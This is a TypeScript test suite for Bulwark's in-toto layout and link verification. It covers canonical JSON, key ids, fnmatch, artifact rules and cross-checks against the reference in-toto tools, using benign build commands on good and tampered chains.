// Legacy in-toto links and layouts (issue 6): canonical JSON, key ids and fnmatch against what the
// Python reference implementation computes, artifact-rule semantics on synthetic chains, and a
// cross-check against the real in-toto 1.3.1 tools (Debian package `in-toto`): keys from
// in-toto-keygen, a layout signed with in-toto-sign, links recorded by in-toto-run running real
// shell commands, then in-toto-verify and `bulwark verify --layout` must agree, for the good chain
// and for each way of tampering with it.
import { spawnSync } from "node:child_process";
import { generateKeyPairSync, type KeyObject, sign as cryptoSign } from "node:crypto";
import {
  appendFileSync,
  cpSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  canonicalizeLegacy,
  compileFnmatch,
  type InTotoKey,
  inTotoKeyid,
  inTotoLinkFilename,
  LegacyFloat,
  type LegacyJson,
  parseInTotoMetadata,
  parseInTotoPublicKey,
  parseLegacyJson,
  verifyInTotoLayout,
} from "../../src/attest/index.js";
import { BulwarkError, fixedClock } from "../../src/core/index.js";
import { cli } from "../support/cli.js";

// ------------------------------------------------------------------------------------------------
// The reference tools

const TOOLS = ["in-toto-keygen", "in-toto-run", "in-toto-sign", "in-toto-verify"] as const;
const onPath = (tool: string) => spawnSync("sh", ["-c", `command -v ${tool}`]).status === 0;
/** A Python that can import securesystemslib (the in-toto scripts use /usr/bin/python3). */
const PYTHON = ["/usr/bin/python3", "python3"].find(
  (py) => spawnSync(py, ["-c", "import securesystemslib, in_toto"]).status === 0,
);
const HAVE_IN_TOTO = TOOLS.every(onPath) && PYTHON !== undefined;

function python(script: string, input?: string): string {
  const r = spawnSync(PYTHON!, ["-c", script], {
    encoding: "utf8",
    ...(input !== undefined ? { input } : {}),
  });
  if (r.status !== 0) throw new Error(`python failed: ${r.stderr}`);
  return r.stdout;
}

function run(cmd: string, args: string[], cwd: string): { ok: boolean; out: string } {
  const r = spawnSync(cmd, args, { cwd, encoding: "utf8" });
  if (r.error) throw r.error;
  return { ok: r.status === 0, out: `${r.stdout}${r.stderr}` };
}

function must(cmd: string, args: string[], cwd: string): void {
  const r = run(cmd, args, cwd);
  if (!r.ok) throw new Error(`${cmd} ${args.join(" ")} failed:\n${r.out}`);
}

const expectCode = (fn: () => unknown, code: string, message?: RegExp) => {
  try {
    fn();
  } catch (e) {
    expect(e).toBeInstanceOf(BulwarkError);
    expect((e as BulwarkError).code).toBe(code);
    if (message) expect((e as BulwarkError).message).toMatch(message);
    return e as BulwarkError;
  }
  throw new Error(`expected ${code}, nothing was thrown`);
};

// ------------------------------------------------------------------------------------------------
// Canonical JSON, key ids, JSON reading: values computed by securesystemslib 0.26

describe("canonical JSON (securesystemslib encode_canonical)", () => {
  // encode_canonical({"b": [1, 0, 12345678901234567890, True, None, -7], "a": "quote\" back\\ ctrl\n\u0001 é 😀 \u2028",
  //                   "é": 1, "\uffff": 2, "😀": 3, "": {}, "Z": []})
  const PY_CANONICAL =
    '{"":{},"Z":[],"a":"quote\\" back\\\\ ctrl\n\u0001 \u00e9 \ud83d\ude00 \u2028","b":[1,0,12345678901234567890,true,null,-7],"\u00e9":1,"\uffff":2,"\ud83d\ude00":3}';
  const INPUT =
    '{"b": [1, -0, 12345678901234567890, true, null, -7], "a": "quote\\" back\\\\ ctrl\\n\\u0001 é 😀 \\u2028", "é": 1, "\\uffff": 2, "😀": 3, "": {}, "Z": []}';

  it("sorts keys by code point, escapes only quote and backslash, keeps big integers exact", () => {
    expect(canonicalizeLegacy(parseLegacyJson(INPUT))).toBe(PY_CANONICAL);
  });

  it("sorts U+1F600 after U+FFFF, unlike UTF-16 order", () => {
    expect(canonicalizeLegacy(parseLegacyJson('{"😀": 1, "\\uffff": 2}'))).toBe('{"\uffff":2,"😀":1}');
  });

  it("refuses floats as securesystemslib does (FormatError: I cannot encode 1.0)", () => {
    const v = parseLegacyJson('{"x": 1.0, "y": 1e3, "z": NaN}') as Record<string, LegacyJson>;
    expect(v["x"]).toBeInstanceOf(LegacyFloat);
    expect(v["y"]).toBeInstanceOf(LegacyFloat);
    expectCode(() => canonicalizeLegacy(v), "INPUT_INVALID", /float 1\.0/);
  });

  it("reads JSON strictly: duplicate keys, a BOM, trailing data and bad escapes are INPUT_INVALID", () => {
    expectCode(() => parseLegacyJson('{"a": 1, "a": 2}', "x.link"), "INPUT_INVALID", /duplicate key "a"/);
    expectCode(() => parseLegacyJson(new Uint8Array([0xef, 0xbb, 0xbf, 0x7b, 0x7d])), "INPUT_INVALID");
    expectCode(() => parseLegacyJson("{} x"), "INPUT_INVALID", /extra data/);
    expectCode(() => parseLegacyJson('"\\x"'), "INPUT_INVALID", /bad escape/);
    expectCode(() => parseLegacyJson(new Uint8Array([0x22, 0xff, 0x22])), "INPUT_INVALID", /not UTF-8/);
    expectCode(() => parseLegacyJson("[".repeat(200) + "]".repeat(200)), "INPUT_TOO_DEEP");
  });

  it.skipIf(!HAVE_IN_TOTO)("matches encode_canonical on the same input, live", () => {
    const out = python(
      "import sys, json; from securesystemslib.formats import encode_canonical; sys.stdout.write(json.dumps(encode_canonical(json.load(sys.stdin))))",
      INPUT,
    );
    expect(JSON.parse(out)).toBe(PY_CANONICAL);
  });
});

describe("key ids (securesystemslib keys._get_keyid)", () => {
  const ED25519_PUBLIC = "c3a98c370987f5c508b50c21d84f37b99cc450c712bc8652fb9537ee0196f96d";
  const ECDSA_PEM =
    "-----BEGIN PUBLIC KEY-----\nMFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAEMbeQoTVQ8PfXDC+T2dRI6tsawfX1\nq6WaBSFJr178yxAFV7WsqXXAVCgRgsatdrKUI5bZDOH+U0iHAjv8OhZa1Q==\n-----END PUBLIC KEY-----\n";

  it("hashes the canonical public key dict, as Python computed for these keys", () => {
    expect(inTotoKeyid("ed25519", "ed25519", ED25519_PUBLIC)).toBe(
      "fe94ab79cade115509e0b3c09f652fb81628b2be3782f9d679cff8b60b2ef338",
    );
    expect(inTotoKeyid("ecdsa", "ecdsa-sha2-nistp256", ECDSA_PEM)).toBe(
      "38f8f0e7624d100503524ad2dca5f1584834f90904b284155b9babe584839117",
    );
  });

  it("reads in-toto-keygen's JSON public keys, computing (not trusting) the key id", () => {
    const key = parseInTotoPublicKey(
      JSON.stringify({
        keytype: "ed25519",
        scheme: "ed25519",
        keyid: "0".repeat(64),
        keyid_hash_algorithms: ["sha256", "sha512"],
        keyval: { public: ED25519_PUBLIC },
      }),
    );
    expect(key.keyid).toBe("fe94ab79cade115509e0b3c09f652fb81628b2be3782f9d679cff8b60b2ef338");
  });

  it("refuses private keys, EC keys in PEM and junk (INPUT_INVALID)", () => {
    const { privateKey, publicKey } = generateKeyPairSync("ec", { namedCurve: "P-256" });
    expectCode(
      () => parseInTotoPublicKey(privateKey.export({ type: "pkcs8", format: "pem" }) as string, "alice"),
      "INPUT_INVALID",
      /private key/,
    );
    expectCode(
      () => parseInTotoPublicKey(publicKey.export({ type: "spki", format: "pem" }) as string, "alice.pem"),
      "INPUT_INVALID",
      /read as RSA.*ec key/,
    );
    expectCode(
      () =>
        parseInTotoPublicKey(
          JSON.stringify({ keytype: "ed25519", scheme: "ed25519", keyval: { public: "ab", private: "cd" } }),
        ),
      "INPUT_INVALID",
      /private key/,
    );
    expectCode(() => parseInTotoPublicKey("hello", "k"), "INPUT_INVALID", /neither/);
    expectCode(
      () =>
        parseInTotoPublicKey(
          JSON.stringify({ keytype: "ed25519", scheme: "ed25519", keyval: { public: "abcd" } }),
        ),
      "INPUT_INVALID",
      /32 bytes/,
    );
  });
});

describe("fnmatch (Python 3.11, POSIX)", () => {
  const CASES: [string, string, boolean][] = [
    ["*", "a/b/c", true],
    ["src/*", "src/a/b.c", true],
    ["src/*", "srcx/a", false],
    ["*.c", "dir/x.c", true],
    ["?", "é", true],
    ["?", "😀", true],
    ["[abc]", "b", true],
    ["[!abc]", "b", false],
    ["[!abc]", "/", true],
    ["[a-c-e]", "-", true],
    ["[a-c-e]", "d", false],
    ["[z-a]", "z", false],
    ["[!z-a]", "q", true],
    ["[]-a]", "^", true],
    ["[]", "[]", true],
    ["[!]", "[!]", true],
    ["a[", "a[", true],
    ["*a*b", "xaxxb", true],
    ["*a*b", "xaxxbc", false],
    ["\\*", "\\x", true],
    ["[\\]", "\\", true],
    ["[^a]", "^", true],
    ["[^a]", "b", false],
    ["a*", "a\nb", true],
  ];

  it("matches these names as fnmatch.fnmatch does", () => {
    for (const [pattern, name, want] of CASES)
      expect([pattern, name, compileFnmatch(pattern)(name)]).toEqual([pattern, name, want]);
  });

  it.skipIf(!HAVE_IN_TOTO)("agrees with Python's fnmatch on a pattern × name table, live", () => {
    const patterns = [
      ...new Set(CASES.map(([p]) => p)),
      "[a-]",
      "[-a]",
      "[!-]",
      "[&~|]",
      "[a-c-e-g]",
      "*/*.[ch]",
      "[[]",
    ];
    const names = [...new Set(CASES.map(([, n]) => n)), "-", "&", "[", "]", "a/b.h", "a", "g", "f"];
    const py = JSON.parse(
      python(
        "import sys, json, fnmatch; d = json.load(sys.stdin); print(json.dumps([[fnmatch.fnmatchcase(n, p) for n in d['n']] for p in d['p']]))",
        JSON.stringify({ p: patterns, n: names }),
      ),
    ) as boolean[][];
    const ours = patterns.map((p) => names.map((n) => compileFnmatch(p)(n)));
    expect(ours).toEqual(py);
  });
});

// ------------------------------------------------------------------------------------------------
// Synthetic chains signed here with node:crypto: rule semantics and malformed metadata

interface TestKey {
  readonly dict: Record<string, unknown>;
  readonly key: InTotoKey;
  readonly privateKey: KeyObject;
}

function testKey(): TestKey {
  const { privateKey, publicKey } = generateKeyPairSync("ed25519");
  const pub = Buffer.from(publicKey.export({ format: "jwk" }).x!, "base64url").toString("hex");
  const keyid = inTotoKeyid("ed25519", "ed25519", pub);
  return {
    dict: {
      keytype: "ed25519",
      scheme: "ed25519",
      keyid,
      keyid_hash_algorithms: ["sha256", "sha512"],
      keyval: { public: pub },
    },
    key: { keyid, keytype: "ed25519", scheme: "ed25519", public: pub },
    privateKey,
  };
}

/** A metablock as the reference tool writes it, signed over the canonical form of `signed`. */
function signed(body: Record<string, unknown>, ...keys: TestKey[]): string {
  const bytes = Buffer.from(canonicalizeLegacy(parseLegacyJson(JSON.stringify(body))), "utf8");
  const signatures = keys.map((k) => ({
    keyid: k.key.keyid,
    sig: cryptoSign(null, bytes, k.privateKey).toString("hex"),
  }));
  return JSON.stringify({ signatures, signed: body }, null, 1);
}

const sha = (c: string) => ({ sha256: c.repeat(64).slice(0, 64) });

function link(
  name: string,
  materials: Record<string, unknown>,
  products: Record<string, unknown>,
  command: string[] = [],
) {
  return { _type: "link", name, materials, products, byproducts: {}, command, environment: {} };
}

function step(
  name: string,
  keys: TestKey[],
  materialRules: string[][],
  productRules: string[][],
  threshold = 1,
) {
  return {
    _type: "step",
    name,
    pubkeys: keys.map((k) => k.key.keyid),
    threshold,
    expected_command: [],
    expected_materials: materialRules,
    expected_products: productRules,
  };
}

function layoutBody(steps: unknown[], keys: TestKey[], extra: Record<string, unknown> = {}) {
  return {
    _type: "layout",
    expires: "2030-01-01T00:00:00Z",
    readme: "",
    keys: Object.fromEntries(keys.map((k) => [k.key.keyid, k.dict])),
    steps,
    inspect: [],
    ...extra,
  };
}

describe("verifyInTotoLayout on synthetic chains", () => {
  const owner = testKey();
  const alice = testKey();
  const bob = testKey();
  const clock = fixedClock("2026-01-01T00:00:00Z");
  const verify = (layout: string, files: Record<string, string>, keys: TestKey[] = [owner]) =>
    verifyInTotoLayout({
      layout,
      layoutFile: "root.layout",
      layoutKeys: keys.map((k) => k.key),
      links: (f) => (files[f] === undefined ? undefined : new TextEncoder().encode(files[f])),
      clock,
    });
  const fetch = [
    ["CREATE", "src/*"],
    ["DISALLOW", "*"],
  ];
  const fetchLink = () => ({
    [inTotoLinkFilename("fetch", alice.key.keyid)]: signed(
      link("fetch", {}, { "src/a.c": sha("a"), "src/b.c": sha("b") }),
      alice,
    ),
  });

  it("consumes with MATCH … IN prefixes and ALLOW, and returns the summary", () => {
    const layout = signed(
      layoutBody(
        [
          step("fetch", [alice], [["DISALLOW", "*"]], fetch),
          step(
            "build",
            [bob],
            [
              ["MATCH", "*", "IN", "code", "WITH", "PRODUCTS", "IN", "src", "FROM", "fetch"],
              ["DISALLOW", "*"],
            ],
            [
              ["ALLOW", "code/*"],
              ["CREATE", "app"],
              ["DISALLOW", "*"],
            ],
          ),
        ],
        [alice, bob],
      ),
      owner,
    );
    const files = {
      ...fetchLink(),
      [inTotoLinkFilename("build", bob.key.keyid)]: signed(
        link(
          "build",
          { "code/a.c": sha("a"), "code/b.c": sha("b") },
          { "code/a.c": sha("a"), app: sha("c") },
          ["make"],
        ),
        bob,
      ),
    };
    const r = verify(layout, files);
    expect(r.steps.map((s) => [s.name, s.links.length])).toEqual([
      ["fetch", 1],
      ["build", 1],
    ]);
    expect([...r.products.keys()]).toEqual(["code/a.c", "app"]);
    expect(r.warnings).toEqual([
      expect.stringMatching(/build\.[0-9a-f]{8}\.link: command \["make"\] differs/),
    ]);
  });

  it("fails a DISALLOW with the artifact and why MATCH did not consume it (VERIFICATION_FAILED)", () => {
    const layout = signed(
      layoutBody(
        [
          step("fetch", [alice], [], fetch),
          step(
            "build",
            [bob],
            [
              ["MATCH", "src/*", "WITH", "PRODUCTS", "FROM", "fetch"],
              ["DISALLOW", "*"],
            ],
            [],
          ),
        ],
        [alice, bob],
      ),
      owner,
    );
    const files = {
      ...fetchLink(),
      [inTotoLinkFilename("build", bob.key.keyid)]: signed(
        link("build", { "src/a.c": sha("a"), "src/b.c": sha("e") }, {}),
        bob,
      ),
    };
    const e = expectCode(
      () => verify(layout, files),
      "VERIFICATION_FAILED",
      /step "build": material rule 2 "DISALLOW \*" matched src\/b\.c .*hashes differ from fetch's product src\/b\.c/,
    );
    expect(e.exitCode).toBe(3);
  });

  it("implements CREATE, DELETE, MODIFY and REQUIRE on the queue", () => {
    const rules = (m: string[][], p: string[][]) =>
      signed(layoutBody([step("s", [alice], m, p)], [alice]), owner);
    const files = {
      [inTotoLinkFilename("s", alice.key.keyid)]: signed(
        link(
          "s",
          { gone: sha("1"), same: sha("2"), changed: sha("3") },
          { same: sha("2"), changed: sha("4"), fresh: sha("5") },
        ),
        alice,
      ),
    };
    const ok = rules(
      [
        ["DELETE", "gone"],
        ["MODIFY", "changed"],
        ["REQUIRE", "same"],
        ["ALLOW", "same"],
        ["DISALLOW", "*"],
      ],
      [
        ["CREATE", "fresh"],
        ["MODIFY", "changed"],
        ["ALLOW", "same"],
        ["DISALLOW", "*"],
      ],
    );
    expect(verify(ok, files).steps).toHaveLength(1);
    // CREATE does not consume what already was a material, MODIFY not what is unchanged.
    expectCode(
      () =>
        verify(
          rules(
            [],
            [
              ["CREATE", "*"],
              ["DISALLOW", "same"],
            ],
          ),
          files,
        ),
      "VERIFICATION_FAILED",
      /product rule 2 "DISALLOW same" matched same .*also a material/,
    );
    expectCode(
      () =>
        verify(
          rules(
            [
              ["MODIFY", "*"],
              ["DISALLOW", "same"],
            ],
            [],
          ),
          files,
        ),
      "VERIFICATION_FAILED",
      /matched same .*unchanged/,
    );
    // REQUIRE looks only at what is left in the queue.
    expectCode(
      () =>
        verify(
          rules(
            [
              ["ALLOW", "*"],
              ["REQUIRE", "same"],
            ],
            [],
          ),
          files,
        ),
      "VERIFICATION_FAILED",
      /REQUIRE same" did not find "same" .*an earlier rule consumed it/,
    );
  });

  it("counts threshold links per distinct key and requires them to agree", () => {
    const layout = signed(layoutBody([step("s", [alice, bob], [], [], 2)], [alice, bob]), owner);
    const body = link("s", {}, { out: sha("1") });
    const agree = {
      [inTotoLinkFilename("s", alice.key.keyid)]: signed(body, alice),
      [inTotoLinkFilename("s", bob.key.keyid)]: signed(body, bob),
    };
    expect(verify(layout, agree).steps[0]!.links).toHaveLength(2);
    expectCode(
      () =>
        verify(layout, {
          ...agree,
          [inTotoLinkFilename("s", bob.key.keyid)]: signed(link("s", {}, { out: sha("2") }), bob),
        }),
      "VERIFICATION_FAILED",
      /report different artifacts \(out hashes differ\)/,
    );
    // Alice's link copied under Bob's name is not signed by Bob: skipped, then too few.
    expectCode(
      () => verify(layout, { ...agree, [inTotoLinkFilename("s", bob.key.keyid)]: signed(body, alice) }),
      "VERIFICATION_FAILED",
      /requires at least 2 link\(s\) validly signed by different authorized functionaries, found 1 .*no signature by key/,
    );
  });

  it("fails closed on inspections and sublayouts", () => {
    const withInspection = signed(
      layoutBody([step("s", [alice], [], [])], [alice], {
        inspect: [
          {
            _type: "inspection",
            name: "untar",
            run: ["tar", "xf", "x.tar"],
            expected_materials: [],
            expected_products: [],
          },
        ],
      }),
      owner,
    );
    const files = { [inTotoLinkFilename("s", alice.key.keyid)]: signed(link("s", {}, {}), alice) };
    expectCode(
      () => verify(withInspection, files),
      "VERIFICATION_FAILED",
      /inspection\(s\) "untar", which Bulwark does not run/,
    );
    const sub = signed(layoutBody([], []), alice);
    const plain = signed(layoutBody([step("s", [alice], [], [])], [alice]), owner);
    expectCode(
      () => verify(plain, { [inTotoLinkFilename("s", alice.key.keyid)]: sub }),
      "VERIFICATION_FAILED",
      /is a sublayout; Bulwark does not verify sublayouts/,
    );
  });

  it("refuses malformed metadata with INPUT_INVALID", () => {
    const bad = (steps: unknown[], extra: Record<string, unknown> = {}) =>
      signed(layoutBody(steps, [alice], extra), owner);
    expectCode(
      () => verify(bad([step("s", [alice], [["MATCH", "*", "FROM", "x"]], [])]), {}),
      "INPUT_INVALID",
      /MATCH <pattern>/,
    );
    expectCode(
      () => verify(bad([step("s", [alice], [["COPY", "*"]], [])]), {}),
      "INPUT_INVALID",
      /must start with one of/,
    );
    expectCode(
      () => verify(bad([step("s", [alice], [], []), step("s", [alice], [], [])]), {}),
      "INPUT_INVALID",
      /two steps/,
    );
    expectCode(() => verify(bad([], { expires: "2030-02-30T00:00:00Z" }), {}), "INPUT_INVALID", /expires/);
    expectCode(() => verify(bad([], { expires: "" }), {}), "INPUT_INVALID", /needs an expiry/);
    expectCode(
      () => verify(bad([{ ...step("s", [alice], [], []), threshold: true }]), {}),
      "INPUT_INVALID",
      /threshold/,
    );
    expectCode(
      () =>
        parseInTotoMetadata(
          '{"signed": {"_type": "link", "materials": {"a": {"sha256": 1.5}}}, "signatures": []}',
        ),
      "INPUT_INVALID",
      /hex digest/,
    );
    expectCode(
      () => parseInTotoMetadata('{"signed": {"_type": "link", "byproducts": {"x": 1.5}}, "signatures": []}'),
      "INPUT_INVALID",
      /float 1\.5/,
    );
    expectCode(
      () => parseInTotoMetadata('{"signed": {"_type": "statement"}, "signatures": []}'),
      "INPUT_INVALID",
      /"link" or "layout"/,
    );
    expectCode(
      () => verify(signed(link("s", {}, {}), owner), {}),
      "INPUT_INVALID",
      /link metadata, not a layout/,
    );
  });

  it("signs over the reference tool's model: unknown fields are ignored, missing ones defaulted", () => {
    // A link written without byproducts/environment: the model fills in {} and signs that.
    const model = link("s", {}, {});
    const sparse: Record<string, unknown> = { _type: "link", name: "s", extra: "not signed" };
    const sig = JSON.parse(signed(model, alice)).signatures;
    const block = parseInTotoMetadata(JSON.stringify({ signatures: sig, signed: sparse }));
    expect(Buffer.from(block.signable).toString()).toBe(
      canonicalizeLegacy(parseLegacyJson(JSON.stringify(model))),
    );
  });
});

// ------------------------------------------------------------------------------------------------
// Cross-check with the reference implementation

if (process.env["CI"] && !HAVE_IN_TOTO)
  describe("in-toto reference tools", () => {
    it("are installed in CI (Debian package in-toto)", () => {
      expect(
        { tools: TOOLS.filter((t) => !onPath(t)), python: PYTHON ?? "no python3 with securesystemslib" },
        "install the Debian package in-toto",
      ).toEqual({ tools: [], python: expect.any(String) });
    });
  });

interface ChainOptions {
  /** Runs in the clone workspace after clone was recorded, before the build copies are made. */
  afterClone?: (ws: string) => void;
  /** Runs in Carol's workspace only, before she builds. */
  carolBeforeBuild?: (ws: string) => void;
  /** Runs in the build workspace after build was recorded, before package. */
  afterBuild?: (ws: string) => void;
  packageCommand?: string;
}

describe.skipIf(!HAVE_IN_TOTO)("cross-check with in-toto-verify (in-toto 1.3.1)", () => {
  let root = "";
  const keys: Record<string, string> = {};
  const KEY_TYPES: Record<string, string> = {
    owner: "ed25519",
    ownerRsa: "rsa",
    alice: "ecdsa",
    bob: "rsa",
    carol: "ed25519",
    mallory: "ed25519",
  };
  let functionaryKeys: Record<string, Record<string, unknown>> = {};
  const keyid: Record<string, string> = {};

  const CLONE =
    "mkdir -p src && printf 'int main(){return 0;}\\n' > src/main.c && echo 1.0 > src/version.txt && echo tmp > src/scratch.txt";
  const BUILD =
    "mkdir -p out && cat src/main.c src/version.txt > out/app.bin && echo built >> src/version.txt && rm src/scratch.txt";
  const PACKAGE = "cp out/app.bin app.pkg";

  function layout(expires = "2099-01-01T00:00:00Z", extra: Record<string, unknown> = {}) {
    return {
      _type: "layout",
      expires,
      readme: "clone, build (two builders), package",
      keys: functionaryKeys,
      steps: [
        {
          _type: "step",
          name: "clone",
          pubkeys: [keyid["alice"]],
          threshold: 1,
          expected_command: ["sh", "-c", CLONE],
          expected_materials: [["DISALLOW", "*"]],
          expected_products: [
            ["CREATE", "src/*"],
            ["DISALLOW", "*"],
          ],
        },
        {
          _type: "step",
          name: "build",
          pubkeys: [keyid["bob"], keyid["carol"]],
          threshold: 2,
          expected_command: ["sh", "-c", BUILD],
          expected_materials: [
            ["DELETE", "src/scratch.txt"],
            ["MATCH", "src/*", "WITH", "PRODUCTS", "FROM", "clone"],
            ["DISALLOW", "*"],
          ],
          expected_products: [
            ["MODIFY", "src/version.txt"],
            ["MATCH", "src/*", "WITH", "PRODUCTS", "FROM", "clone"],
            ["CREATE", "out/app.bin"],
            ["DISALLOW", "*"],
          ],
        },
        {
          _type: "step",
          name: "package",
          pubkeys: [keyid["alice"]],
          threshold: 1,
          expected_command: ["tar", "czf", "app.tar.gz", "out"],
          expected_materials: [
            ["MATCH", "*", "IN", "out", "WITH", "PRODUCTS", "IN", "out", "FROM", "build"],
            ["DISALLOW", "*"],
          ],
          expected_products: [
            ["REQUIRE", "app.pkg"],
            ["CREATE", "app.pkg"],
            ["MATCH", "app.bin", "IN", "out", "WITH", "PRODUCTS", "IN", "out", "FROM", "build"],
            ["DISALLOW", "*"],
          ],
        },
      ],
      inspect: [],
      ...extra,
    };
  }

  /** Writes the layout unsigned and has in-toto-sign sign it with the given owner keys. */
  function signLayout(dir: string, body: unknown, signers: string[] = ["owner"]): string {
    mkdirSync(dir, { recursive: true });
    writeFileSync(join(dir, "unsigned.layout"), JSON.stringify({ signatures: [], signed: body }, null, 1));
    must(
      "in-toto-sign",
      [
        "-f",
        "unsigned.layout",
        "-k",
        ...signers.map((s) => keys[s]!),
        "-t",
        ...signers.map((s) => KEY_TYPES[s]!),
        "-o",
        "root.layout",
      ],
      dir,
    );
    rmSync(join(dir, "unsigned.layout"));
    return join(dir, "root.layout");
  }

  function record(
    ws: string,
    links: string,
    step: string,
    who: string,
    materials: string[],
    products: string[],
    command: string,
  ) {
    must(
      "in-toto-run",
      [
        "-n",
        step,
        "-k",
        keys[who]!,
        "-t",
        KEY_TYPES[who]!,
        "-d",
        links,
        ...(materials.length ? ["-m", ...materials] : []),
        ...(products.length ? ["-p", ...products] : []),
        "--",
        "sh",
        "-c",
        command,
      ],
      ws,
    );
  }

  /** Carries out the supply chain for real; returns the link directory. */
  function chain(name: string, o: ChainOptions = {}): string {
    const dir = join(root, name);
    const links = join(dir, "links");
    mkdirSync(links, { recursive: true });
    const cloneWs = join(dir, "clone");
    mkdirSync(cloneWs);
    record(cloneWs, links, "clone", "alice", [], ["src"], CLONE);
    o.afterClone?.(cloneWs);
    const bobWs = join(dir, "bob");
    const carolWs = join(dir, "carol");
    cpSync(cloneWs, bobWs, { recursive: true });
    cpSync(cloneWs, carolWs, { recursive: true });
    record(bobWs, links, "build", "bob", ["src"], ["src", "out"], BUILD);
    o.carolBeforeBuild?.(carolWs);
    record(carolWs, links, "build", "carol", ["src"], ["src", "out"], BUILD);
    o.afterBuild?.(bobWs);
    const packageCommand = o.packageCommand ?? PACKAGE;
    const products = [
      "out",
      ...["app.pkg", "app.zip", "backdoor.sh"].filter((f) => packageCommand.includes(f)),
    ];
    record(bobWs, links, "package", "alice", ["out"], products, packageCommand);
    return links;
  }

  function reference(layoutPath: string, links: string, layoutKeys: string[] = ["owner"]) {
    // Inspections run in the working directory and leave links there: a scratch directory.
    const cwd = mkdtempSync(join(root, "verify-"));
    return run(
      "in-toto-verify",
      [
        "--layout",
        layoutPath,
        "--layout-keys",
        ...layoutKeys.map((k) => keys[k]!.concat(".pub")),
        "--key-types",
        ...layoutKeys.map((k) => KEY_TYPES[k]!),
        "--link-dir",
        links,
      ],
      cwd,
    );
  }

  async function bulwark(layoutPath: string, links: string | undefined, layoutKeys: string[] = ["owner"]) {
    return cli(
      [
        "verify",
        "--layout",
        layoutPath,
        ...layoutKeys.flatMap((k) => ["--layout-key", `${keys[k]!}.pub`]),
        ...(links !== undefined ? ["--links", links] : []),
      ],
      { cwd: root, env: { SOURCE_DATE_EPOCH: String(Math.floor(Date.now() / 1000)) } },
    );
  }

  /**
   * Both tools on the same inputs must reach the same verdict. On failure, in-toto-verify must
   * raise `referenceError` and Bulwark's reason must match `reason`.
   */
  async function agree(
    layoutPath: string,
    links: string,
    want: "pass" | { reason: RegExp; referenceError: string },
    layoutKeys?: string[],
  ) {
    const ref = reference(layoutPath, links, layoutKeys);
    const ours = await bulwark(layoutPath, links, layoutKeys);
    expect(
      { reference: ref.ok, bulwark: ours.code === 0 },
      `in-toto-verify said:\n${ref.out}\nbulwark said:\n${ours.stderr}`,
    ).toEqual({ reference: want === "pass", bulwark: want === "pass" });
    if (want !== "pass") {
      expect(ref.out).toContain(`(in-toto-verify) ${want.referenceError}:`);
      expect(ours.code).toBe(3);
      expect(ours.stderr).toMatch(want.reason);
      expect(ours.stderr).toMatch(/\[VERIFICATION_FAILED\]/);
    }
    return { ref, ours };
  }

  let goodLinks = "";
  let goodLayout = "";

  beforeAll(() => {
    root = mkdtempSync(join(tmpdir(), "bulwark-intoto-"));
    mkdirSync(join(root, "keys"));
    for (const [name, type] of Object.entries(KEY_TYPES)) {
      must(
        "in-toto-keygen",
        ["-t", type, ...(type === "rsa" ? ["-b", "2048"] : []), name],
        join(root, "keys"),
      );
      keys[name] = join(root, "keys", name);
    }
    // The layout's functionary keys as securesystemslib imports them (key dicts with key ids).
    const fkeys = ["alice", "bob", "carol"];
    functionaryKeys = JSON.parse(
      python(
        `import json, sys; from securesystemslib.interface import import_publickeys_from_file as f; print(json.dumps(f(${JSON.stringify(fkeys.map((k) => `${keys[k]}.pub`))}, ${JSON.stringify(fkeys.map((k) => KEY_TYPES[k]))})))`,
      ),
    );
    const ids = Object.keys(functionaryKeys);
    fkeys.forEach((k, i) => (keyid[k] = ids[i]!));
    goodLinks = chain("good");
    goodLayout = signLayout(join(root, "good-layout"), layout());
  }, 120_000);
  afterAll(() => {
    if (root) rmSync(root, { recursive: true, force: true });
  });

  it("computes the same key ids as securesystemslib for in-toto-keygen's ed25519, ecdsa and rsa keys", () => {
    for (const name of ["alice", "bob", "carol"]) {
      const text = readFileSync(`${keys[name]}.pub`);
      expect(parseInTotoPublicKey(text, `${name}.pub`).keyid, name).toBe(keyid[name]);
    }
    const owners = JSON.parse(
      python(
        `import json; from securesystemslib.interface import import_publickeys_from_file as f; print(json.dumps(list(f(${JSON.stringify([`${keys["owner"]}.pub`, `${keys["ownerRsa"]}.pub`])}, ["ed25519", "rsa"]).keys())))`,
      ),
    );
    expect([
      parseInTotoPublicKey(readFileSync(`${keys["owner"]}.pub`)).keyid,
      parseInTotoPublicKey(readFileSync(`${keys["ownerRsa"]}.pub`)).keyid,
    ]).toEqual(owners);
  });

  it("reads the links in-toto-run wrote and verifies their signatures over the same bytes", () => {
    const files = readdirSync(goodLinks).sort();
    expect(files).toHaveLength(4);
    for (const f of files) {
      const block = parseInTotoMetadata(readFileSync(join(goodLinks, f)), f);
      expect(block.signed.type).toBe("link");
    }
  });

  it("good chain: both verify it (and Bulwark warns about the differing package command)", async () => {
    const { ours } = await agree(goodLayout, goodLinks, "pass");
    expect(ours.stdout).toMatch(/^Verified: .*root\.layout — 3 steps/);
    expect(ours.stdout).toMatch(/build: 2 links \(threshold 2\)/);
    expect(ours.stdout).toMatch(/app\.pkg sha256:[0-9a-f]{64}/);
    expect(ours.stderr).toMatch(/package\.[0-9a-f]{8}\.link: command .* differs from the expected/);
  });

  it("good chain: --links defaults to the layout's directory; --format json", async () => {
    const dir = join(root, "good-together");
    cpSync(goodLinks, dir, { recursive: true });
    cpSync(goodLayout, join(dir, "root.layout"));
    const r = await cli(
      [
        "--format",
        "json",
        "verify",
        "--layout",
        join(dir, "root.layout"),
        "--layout-key",
        `${keys["owner"]}.pub`,
      ],
      { cwd: root, env: { SOURCE_DATE_EPOCH: String(Math.floor(Date.now() / 1000)) } },
    );
    expect(r.code).toBe(0);
    const json = JSON.parse(r.stdout);
    expect(json.verified).toBe(true);
    expect(json.steps.map((s: { name: string }) => s.name)).toEqual(["clone", "build", "package"]);
    expect(Object.keys(json.products).sort()).toEqual(["app.pkg", "out/app.bin"]);
  });

  it("layout signed by two owner keys (ed25519 JSON and RSA PEM): both keys verify; a key that did not sign fails", async () => {
    const two = signLayout(join(root, "two-owners"), layout(), ["owner", "ownerRsa"]);
    await agree(two, goodLinks, "pass", ["owner", "ownerRsa"]);
    await agree(
      two,
      goodLinks,
      {
        reason: /no signature by key [0-9a-f]{64} \(layout key\)/,
        referenceError: "SignatureVerificationError",
      },
      ["owner", "mallory"],
    );
  });

